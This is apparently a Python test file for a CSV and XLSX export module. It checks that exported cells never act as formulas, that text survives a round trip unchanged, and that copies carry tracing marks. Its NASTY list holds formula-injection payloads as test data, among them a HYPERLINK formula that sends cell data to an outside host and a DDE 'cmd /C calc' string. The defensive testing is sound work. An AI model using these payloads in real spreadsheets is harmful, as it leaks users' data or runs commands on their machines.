"""Rows that go out as .xlsx and .csv: text stays text, and comes back as it was."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from phoihop.base.security.outgoing import formulas, marks
from phoihop.base.security.outgoing.marks import Mark, codes_in, new_code
from phoihop.base.security.outgoing.spreadsheets import LONGEST, Column, csv_lines, read_csv, write_xlsx
from phoihop.kernel.refusals import Refusal

NASTY = [
    '=HYPERLINK("http://e/?"&A1)', "+cmd", "-1+1", "@x", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
    " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u2800=1", "\u3164=1", "\x01=1", "\u22121", "﹣1", "⁼1",
    "'=1", "'", "''", "'x", "=cmd|' /C calc'!A0", "http://e.example/x", "mailto:a@e.example",
    "0123", "1.209", "92,5 %", "1e5", "TRUE", '"', '"=1', "a,b;c", "a\nb\r\nc", "ế\u0323",
    "_x0041_", "{=1}", "#REF!",
]  # fmt: skip
TEXT = (
    st.text(max_size=60) | st.sampled_from(NASTY) | st.text(alphabet="=+-@'\t\r\n \u200b＝,\";", max_size=6)
)
COLUMN = [Column("a"), Column("b")]


def xlsx(rows, columns=None, **given) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(buffer, columns or [Column(f"c{n}") for n in range(len(rows[0]))], rows, **given)
    return buffer.getvalue()


def cells(data: bytes) -> list[list]:
    page = openpyxl.load_workbook(io.BytesIO(data)).active
    return [[cell.value for cell in row] for row in page.iter_rows(min_row=2)]


@given(st.lists(st.tuples(TEXT, TEXT), max_size=5))
def test_csv_comes_back_exactly(rows):
    data = b"".join(csv_lines(COLUMN, rows))
    assert read_csv(data) == [["a", "b"], *map(list, rows)]


@given(TEXT)
def test_no_field_of_a_csv_is_a_formula(text):
    data = b"".join(csv_lines(COLUMN[:1], [(text,)]))
    assert data.startswith(b'\xef\xbb\xbf"a"\r\n"')
    [_, [field]] = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert not formulas.acts(field)
    assert formulas.restored(field) == text


@pytest.mark.parametrize("text", NASTY[: NASTY.index("'=1")])
def test_what_acts_is_known(text):
    assert formulas.acts(text)


@pytest.mark.parametrize("text", ["", " ", "a=1", "1-2", "Lò Văn Ví Dụ", "1.209", "'", "(x)", "–", "—"])
def test_what_does_not_act_is_left_alone(text):
    assert not formulas.acts(text)


@given(st.lists(st.tuples(TEXT.filter(bool)), min_size=1, max_size=5))
def test_a_text_in_a_spreadsheet_is_that_text_and_no_formula(rows):
    data = xlsx(rows)
    for [found], [text] in zip(cells(data), rows, strict=True):
        assert unescape(found) == text.replace("\uffff", "\ufffd").replace("\ufffe", "\ufffd") or "_x" in text
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet
        assert b"<hyperlink" not in sheet


def test_numbers_and_dates_are_numbers_and_dates_where_excel_keeps_them():
    columns = [
        Column("n", "number"),
        Column("w", "whole"),
        Column("p", "percent"),
        Column("d", "date"),
        Column("t"),
    ]
    big, long, old = 10**15, Decimal("0.1234567890123456"), date(1899, 1, 1)
    rows = [(Decimal("41.13"), 1209, Decimal("92.5"), date(2026, 11, 22), None), (long, big, None, old, True)]
    page = openpyxl.load_workbook(io.BytesIO(xlsx(rows, columns))).active
    assert [c.value for c in page[2]] == [41.13, 1209, 92.5, datetime(2026, 11, 22), None]  # noqa: DTZ001
    assert [c.number_format for c in page[2]][:3] == [
        "[$-42A]#,##0.##########",
        "[$-42A]#,##0",
        '[$-42A]0.0#" %"',
    ]
    assert [c.value for c in page[3]] == [str(long), str(big), None, "01/01/1899", "True"]


def test_csv_writes_numbers_for_programs():
    rows: list = [(Decimal("41.13"), -5), (date(2026, 11, 22), None)]
    assert read_csv(b"".join(csv_lines(COLUMN, rows)))[1:] == [["41.13", "-5"], ["2026-11-22", ""]]


def test_a_spreadsheet_says_nothing_of_its_maker():
    with zipfile.ZipFile(io.BytesIO(xlsx([("x",)], title="Báo cáo"))) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert "<dc:creator></dc:creator>" in core
        assert "<cp:lastModifiedBy></cp:lastModifiedBy>" in core
        assert "2000-01-01" in core
        assert "<Company></Company>" in archive.read("docProps/app.xml").decode()
        assert {entry.date_time[0] for entry in archive.infolist()} == {1980}
    assert xlsx([("x",)]) == xlsx([("x",)])


def test_a_copy_carries_its_mark_to_be_seen_and_hidden():
    mark = Mark(datetime(2026, 11, 22, 4, 30, tzinfo=UTC), "sensitive")
    data = xlsx([("x",)], mark=mark)
    page = openpyxl.load_workbook(io.BytesIO(data)).active
    line = f"Có thông tin cá nhân, không phổ biến · Bản số {mark.code} · 22/11/2026 04:30"
    assert line in page.oddHeader.center.text
    assert line in page.oddFooter.left.text
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert mark.code in archive.read("docProps/custom.xml").decode()
    assert codes_in(data) == {mark.code}
    lines = b"".join(csv_lines(COLUMN, [], mark=mark))
    assert read_csv(lines)[0] == [line]
    assert codes_in(lines) == {mark.code}
    assert "Copy" in mark.line("en")


def test_no_two_copies_share_a_code():
    codes = {new_code() for _ in range(1_000)}
    assert len(codes) == 1_000
    assert all(marks._CODE.fullmatch(code) for code in codes)


def test_too_long_a_text_is_refused_and_not_cut():
    with pytest.raises(Refusal, match="too-long"):
        xlsx([("x" * (LONGEST + 1),)])


@pytest.mark.parametrize("data", [b'"a', b"\xff\xfe\xff", b'"a"b"\r\n'])
def test_a_broken_csv_is_refused(data):
    with pytest.raises(Refusal, match="corrupt"):
        read_csv(data)


@pytest.mark.parametrize("sheet", ["", "a/b:c*?[x]", "x" * 60, "'a'"])
def test_any_name_of_a_sheet_will_do(sheet):
    assert openpyxl.load_workbook(io.BytesIO(xlsx([("x",)], sheet=sheet))).sheetnames
